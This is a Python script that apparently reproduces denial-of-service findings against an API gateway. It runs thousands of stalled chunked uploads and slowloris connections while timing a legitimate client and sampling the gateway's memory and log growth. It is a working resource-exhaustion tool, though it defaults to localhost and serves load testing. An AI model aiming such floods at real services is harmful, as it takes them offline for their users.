#!/usr/bin/env python3
"""Slow and stalled clients against one gateway, next to a legitimate client (Python 3 standard library only).

  slow_clients.py stub <port>           a stand-in backend on <port> (answers every request with a small JSON page)
                                        and its readiness on <port> + 1000, until killed
  slow_clients.py attack <out.json>     the attack of issue 18 (finding 2 and the slowloris of finding 6), for
                                        DURATION seconds, and what the gateway went through

The attack, all at once, each kind on connections of its own that reconnect as soon as the gateway closes them:
  STALLED (1200)    POST /api/products with a valid access token, chunked, one 60 KB chunk, then nothing
  ANONYMOUS (1200)  the same without a token
  SLOWLORIS (1500)  GET /api/products, the request line and then one header byte a second
while a legitimate client sends GET /api/products?size=1 on one kept-alive connection every 50 ms. Every second
it samples the gateway's direct buffer memory, heap, request bodies held (its management port's metrics), its
resident memory (/proc/<pid>) and its log's size.

Environment: GATEWAY (http://127.0.0.1:18080), MANAGEMENT (http://127.0.0.1:19080), GATEWAY_PID, GATEWAY_LOG,
TOKEN (the access token of the stalled uploads), DURATION (30), STALLED, ANONYMOUS, SLOWLORIS.
"""
import asyncio
import http.client
import http.server
import json
import os
import sys
import threading
import time
import urllib.request
from urllib.parse import urlparse

CHUNK = 60 * 1024


def stub(port):
    class Handler(http.server.BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def do_GET(self):
            body = json.dumps({"status": "UP"} if self.path.startswith("/actuator")
                              else {"content": [], "page": {"size": 1, "number": 0, "totalElements": 0,
                                                            "totalPages": 0}}).encode()
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args):
            pass

    servers = [http.server.ThreadingHTTPServer(("127.0.0.1", p), Handler) for p in (port, port + 1000)]
    for server in servers[1:]:
        threading.Thread(target=server.serve_forever, daemon=True).start()
    servers[0].serve_forever()


async def first_line_then_close(reader, deadline):
    """The status of the gateway's answer (None when it closed without one), once it has closed the connection."""
    status = None
    try:
        line = await asyncio.wait_for(reader.readline(), max(0.1, deadline - time.monotonic()))
        if line.startswith(b"HTTP/1.1 "):
            status = int(line.split()[1])
        while await asyncio.wait_for(reader.read(65536), max(0.1, deadline - time.monotonic())):
            pass
    except (asyncio.TimeoutError, ConnectionError):
        pass
    return status


async def reconnecting(host, port, deadline, outcomes, exchange):
    """Until the deadline: a connection, exchange(reader, writer) -> the answer's status, counted; then the next one."""
    while time.monotonic() < deadline:
        try:
            reader, writer = await asyncio.open_connection(host, port)
        except OSError:
            outcomes["connect failed"] = outcomes.get("connect failed", 0) + 1
            await asyncio.sleep(0.5)
            continue
        try:
            status = await exchange(reader, writer)
        except ConnectionError:
            status = None
        finally:
            writer.close()
        key = str(status) if status else "closed without an answer"
        if time.monotonic() < deadline:
            outcomes[key] = outcomes.get(key, 0) + 1


async def uploader(host, port, token, deadline, outcomes):
    head = ("POST /api/products HTTP/1.1\r\nHost: gateway\r\nContent-Type: application/json\r\n"
            "Transfer-Encoding: chunked\r\n" + (f"Authorization: Bearer {token}\r\n" if token else "") + "\r\n")
    chunk = (format(CHUNK, "x") + "\r\n").encode() + b"x" * CHUNK + b"\r\n"

    async def stall(reader, writer):
        writer.write(head.encode() + chunk)
        await writer.drain()
        return await first_line_then_close(reader, deadline)

    await reconnecting(host, port, deadline, outcomes, stall)


async def slowloris(host, port, deadline, outcomes):
    async def trickle(reader, writer):
        writer.write(b"GET /api/products HTTP/1.1\r\nHost: gateway\r\n")
        await writer.drain()
        answered = asyncio.ensure_future(first_line_then_close(reader, deadline))
        for byte in b"X-Slow: " + b"a" * 10_000:
            if answered.done():
                break
            writer.write(bytes([byte]))
            await writer.drain()
            await asyncio.wait([answered], timeout=1)
        return await answered

    await reconnecting(host, port, deadline, outcomes, trickle)


def legitimate(gateway, deadline, result):
    url = urlparse(gateway)
    conn = None
    while time.monotonic() < deadline:
        started = time.monotonic()
        try:
            if conn is None:
                conn = http.client.HTTPConnection(url.hostname, url.port, timeout=10)
            conn.request("GET", "/api/products?size=1")
            response = conn.getresponse()
            response.read()
            key = str(response.status)
            if response.getheader("Connection", "").lower() == "close":
                conn.close()
                conn = None
        except (OSError, http.client.HTTPException) as error:
            key = "no answer: " + type(error).__name__
            if conn is not None:
                conn.close()
            conn = None
        result[key] = result.get(key, 0) + 1
        result["slowest s"] = round(max(result.get("slowest s", 0), time.monotonic() - started), 3)
        time.sleep(max(0.0, 0.05 - (time.monotonic() - started)))


def metric(management, name, tag=None):
    query = f"?tag={tag}" if tag else ""
    try:
        with urllib.request.urlopen(f"{management}/actuator/metrics/{name}{query}", timeout=2) as response:
            return json.load(response)["measurements"][0]["value"]
    except (OSError, ValueError, KeyError):
        return None


def proc_status(pid):
    values = {}
    try:
        with open(f"/proc/{pid}/status") as status:
            for line in status:
                key, _, rest = line.partition(":")
                if key in ("VmRSS", "VmHWM"):
                    values[key] = int(rest.split()[0]) // 1024
    except OSError:
        pass
    return values


def sampler(management, pid, log, deadline, samples):
    while time.monotonic() < deadline:
        sample = {"t": round(time.monotonic(), 1),
                  "direct MB": metric(management, "jvm.buffer.memory.used", "id:direct"),
                  "heap MB": metric(management, "jvm.memory.used", "area:heap"),
                  "bodies held KB": metric(management, "gateway.request.bodies.held"),
                  "log MB": round(os.path.getsize(log) / 1e6, 2) if log and os.path.exists(log) else None}
        for key in ("direct MB", "heap MB"):
            if sample[key] is not None:
                sample[key] = round(sample[key] / 1e6, 1)
        if sample["bodies held KB"] is not None:
            sample["bodies held KB"] = round(sample["bodies held KB"] / 1024)
        sample.update(proc_status(pid))
        samples.append(sample)
        time.sleep(1)


def attack(out):
    gateway = os.environ.get("GATEWAY", "http://127.0.0.1:18080")
    management = os.environ.get("MANAGEMENT", "http://127.0.0.1:19080")
    pid = os.environ.get("GATEWAY_PID", "")
    log = os.environ.get("GATEWAY_LOG", "")
    token = os.environ["TOKEN"]
    duration = int(os.environ.get("DURATION", "30"))
    counts = {kind: int(os.environ.get(kind.upper(), default))
              for kind, default in (("stalled", 1200), ("anonymous", 1200), ("slowloris", 1500))}
    url = urlparse(gateway)
    log_before = os.path.getsize(log) if log and os.path.exists(log) else 0
    deadline = time.monotonic() + duration
    legit, samples = {}, []
    threads = [threading.Thread(target=legitimate, args=(gateway, deadline, legit)),
               threading.Thread(target=sampler, args=(management, pid, log, deadline, samples))]
    for thread in threads:
        thread.start()
    outcomes = {kind: {} for kind in counts}

    async def everything():
        tasks = [uploader(url.hostname, url.port, token, deadline, outcomes["stalled"]) for _ in range(counts["stalled"])]
        tasks += [uploader(url.hostname, url.port, None, deadline, outcomes["anonymous"]) for _ in range(counts["anonymous"])]
        tasks += [slowloris(url.hostname, url.port, deadline, outcomes["slowloris"]) for _ in range(counts["slowloris"])]
        await asyncio.gather(*tasks)

    asyncio.run(everything())
    for thread in threads:
        thread.join()
    alive = os.path.exists(f"/proc/{pid}") if pid else None
    peak = lambda key: max((s[key] for s in samples if s.get(key) is not None), default=None)
    result = {"duration s": duration, "connections": counts, "attack answers": outcomes, "legitimate client": legit,
              "gateway alive at the end": alive, "peak direct MB": peak("direct MB"), "peak heap MB": peak("heap MB"),
              "peak bodies held KB": peak("bodies held KB"), "peak RSS MB (VmHWM)": peak("VmHWM"),
              "log growth MB": round(((os.path.getsize(log) if log and os.path.exists(log) else 0) - log_before) / 1e6, 2),
              "samples": samples}
    with open(out, "w") as file:
        json.dump(result, file, indent=1)
    print(json.dumps({key: value for key, value in result.items() if key != "samples"}, indent=1))


if __name__ == "__main__":
    if sys.argv[1] == "stub":
        stub(int(sys.argv[2]))
    elif sys.argv[1] == "attack":
        attack(sys.argv[2])
    else:
        sys.exit(__doc__)
